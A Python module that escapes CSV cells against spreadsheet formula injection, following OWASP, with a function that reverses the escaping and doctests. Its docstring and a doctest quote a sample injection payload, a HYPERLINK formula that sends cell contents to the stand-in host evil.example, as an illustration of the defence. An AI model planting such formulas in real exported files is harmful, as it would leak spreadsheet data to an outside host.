"""Spreadsheet-safe CSV cells: text that a spreadsheet shows as text and never runs as a formula.

A CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for a formula by Excel,
LibreOffice and Google Sheets; a place name or a quote from an article such as ``=HYPERLINK("http://evil.example/?"
&A1, "click")`` would then run when a reviewer opens the file. Following OWASP's rule ("CSV injection"), such a
cell is written with a ``'`` in front, which spreadsheets read as "this is text". Numbers are left alone: ``-12.5``
is a number, not a formula (a text cell that is exactly a plain number is therefore harmless too).

The rule is exactly undone by :func:`spreadsheet_text`, which idpmap's CSV readers apply, so that a file idpmap
wrote reads back to the same text. To keep that exact, a cell that already begins with ``'`` before one of those
characters gets one more ``'``.

Used by every CSV a person may open: ``idpmap flows`` CSV, HXL and flowmap.blue exports (:mod:`mapper.io`) and the
draft reports of ``idpmap extract``.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
#: Finds, in a whole CSV text, any cell that :func:`spreadsheet_text` would change (a fast pre-check).
ESCAPED_CELL = re.compile(r"'[=+\-@\t\r]")


def _needs_quote(text: str) -> bool:
    rest = text.lstrip("'")
    return rest[:1] in FORMULA_TRIGGERS and not (rest is text and _PLAIN_NUMBER.match(text))


def spreadsheet_safe(cell):
    """``cell`` as a spreadsheet-safe CSV cell: text beginning with ``= + - @``, a tab or CR gets a leading ``'``.

    Numbers (``int``/``float``, or text that is a plain number such as ``-36.5``) and other text are returned as
    they are; ``None`` stays ``None``.

    >>> spreadsheet_safe('=HYPERLINK("http://evil.example")')
    '\\'=HYPERLINK("http://evil.example")'
    >>> spreadsheet_safe("-36.5"), spreadsheet_safe(-3), spreadsheet_safe("Atme")
    ('-36.5', -3, 'Atme')
    """
    if isinstance(cell, str) and cell and _needs_quote(cell):
        return "'" + cell
    return cell


def spreadsheet_text(cell):
    """The text :func:`spreadsheet_safe` was given: one leading ``'`` removed where it added one."""
    if isinstance(cell, str) and cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_TRIGGERS:
        return cell[1:]
    return cell
